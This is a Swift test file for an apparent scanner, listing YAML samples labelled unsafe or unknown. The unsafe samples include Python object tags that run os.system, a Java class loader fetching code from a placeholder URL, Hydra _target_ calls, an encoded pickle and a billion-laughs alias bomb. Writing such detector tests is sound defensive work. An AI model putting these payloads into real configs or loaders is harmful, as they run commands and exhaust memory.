// SPDX-License-Identifier: Apache-2.0
// Copyright 2026 the Martlet authors

import MartletEvidence

@testable import MartletScan

/// YAML whose tags, targets or aliases do harm.
extension TextVector {
  static let yaml: [TextVector] = [
    .init("y_apply.yaml", .unsafe, "!!python/object/apply:os.system ['id']"),
    .init("y_new.yaml", .unsafe, "a: !!python/object/new:subprocess.Popen [['id']]"),
    .init("y_name.yaml", .unsafe, "a: !!python/name:os.system"),
    .init("y_module.yaml", .unsafe, "a: !!python/module:os"),
    .init("y_verb.yaml", .unsafe, "a: !<tag:yaml.org,2002:python/object/apply:os.system> [id]"),
    .init(
      "y_TAG.yaml", .unsafe, "%TAG !x! tag:yaml.org,2002:python/\n---\na: !x!object/apply:os.system [id]"),
    .init("y_TAG2.yaml", .unsafe, "%TAG ! tag:yaml.org,2002:python/object/\n---\na: !apply:os.system [id]"),
    .init("y_pct.yaml", .unsafe, "a: !!python%2Fobject%2Fapply:os.system [id]"),
    .init("y_key.yaml", .unsafe, "!!python/object/apply:os.system [id]: 1"),
    .init("y_flow.yaml", .unsafe, "{a: [1, !!python/object/apply:os.system [id]]}"),
    .init("y_doc2.yaml", .unsafe, "a: 1\n---\nb: !!python/object/apply:os.system [id]"),
    .init("y_local.yaml", .unknown, "a: !Foo {b: 1}"),
    .init(
      "y_javax.yaml", .unsafe,
      "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ['http://x/']]]]"),
    .init("y_ruby.yaml", .unsafe, "--- !ruby/object:Gem::Installer\ni: x"),
    .init("y_ev.yaml", .unsafe, "a: !!python/object/apply:builtins.eval [\"__import__('os').system('id')\"]"),
    .init("y_newline.yaml", .unsafe, "a:\n  !!python/object/apply:os.system\n  args: [id]"),
    .init("y_anch.yaml", .unsafe, "a: &x !!python/object/apply:os.system [id]\nb: *x"),
    .init("y_target.yaml", .unsafe, "model:\n  _target_: os.system\n  command: id"),
    .init("y_targ2.yaml", .unsafe, "_target_: builtins.exec\n_args_: [\"x\"]"),
    .init("y_targ3.yaml", .unknown, "_target_: mypkg.models.Net"),
    .init("y_targ4.yaml", .unsafe, "_target_: hydra.utils.get_method\npath: os.system"),
    .init("y_interp.yaml", .unsafe, "a: ${python:__import__('os').system('id')}"),
    .init("y_eval.yaml", .unknown, "a: ${eval:1+1}"),
    .init(
      "y_laughs.yaml", .unsafe,
      "a0: &a0 [x,x,x,x,x,x,x,x,x]\na1: &a1 [*a0,*a0,*a0,*a0,*a0,*a0,*a0,*a0,*a0]\na2: &a2 [*a1,*a1,*a1,*a1,*a1,*a1,*a1,*a1,*a1]\na3: &a3 [*a2,*a2,*a2,*a2,*a2,*a2,*a2,*a2,*a2]\na4: &a4 [*a3,*a3,*a3,*a3,*a3,*a3,*a3,*a3,*a3]\na5: &a5 [*a4,*a4,*a4,*a4,*a4,*a4,*a4,*a4,*a4]\na6: &a6 [*a5,*a5,*a5,*a5,*a5,*a5,*a5,*a5,*a5]\na7: &a7 [*a6,*a6,*a6,*a6,*a6,*a6,*a6,*a6,*a6]\na8: &a8 [*a7,*a7,*a7,*a7,*a7,*a7,*a7,*a7,*a7]\na9: &a9 [*a8,*a8,*a8,*a8,*a8,*a8,*a8,*a8,*a8]"
    ),
    .init("y_broken.yaml", .unsafe, "a: b: c\n  x: !!python/object/apply:os.system [id]\n"),
    .init("y_bin.yaml", .unsafe, "a: !!binary gASVHQAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAJpZJSFlFKULg=="),
    .init("y_b64.yaml", .unsafe, "a: gASVHQAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAJpZJSFlFKULg=="),
    .init("y_loader.yaml", .unsafe, "flavors:\n  python_function:\n    loader_module: os\n"),
    .init(
      "y_loader2.yaml", .unknown,
      "flavors:\n  python_function:\n    loader_module: mlflow.pyfunc.model\n    python_model: python_model.pkl\n"
    ),
    .init("y_mlproj.yaml", .unknown, "name: x\nentry_points:\n  main:\n    command: \"python train.py\"\n"),
    .init("y_ext.yaml", .unsafe, "a: !!python/object/apply:torch.load ['x']"),
    .init("y_merge.yaml", .unsafe, "<<: !!python/object/apply:os.system [id]"),
    .init("y_cmap.yaml", .unsafe, "? !!python/object/apply:os.system [id]\n: v"),
    .init(
      "y_md.yaml", .unsafe,
      "---\nlicense: mit\nx: !!python/object/apply:os.system [id]\n---\n# Card\n\nHello\n"),
  ]
}
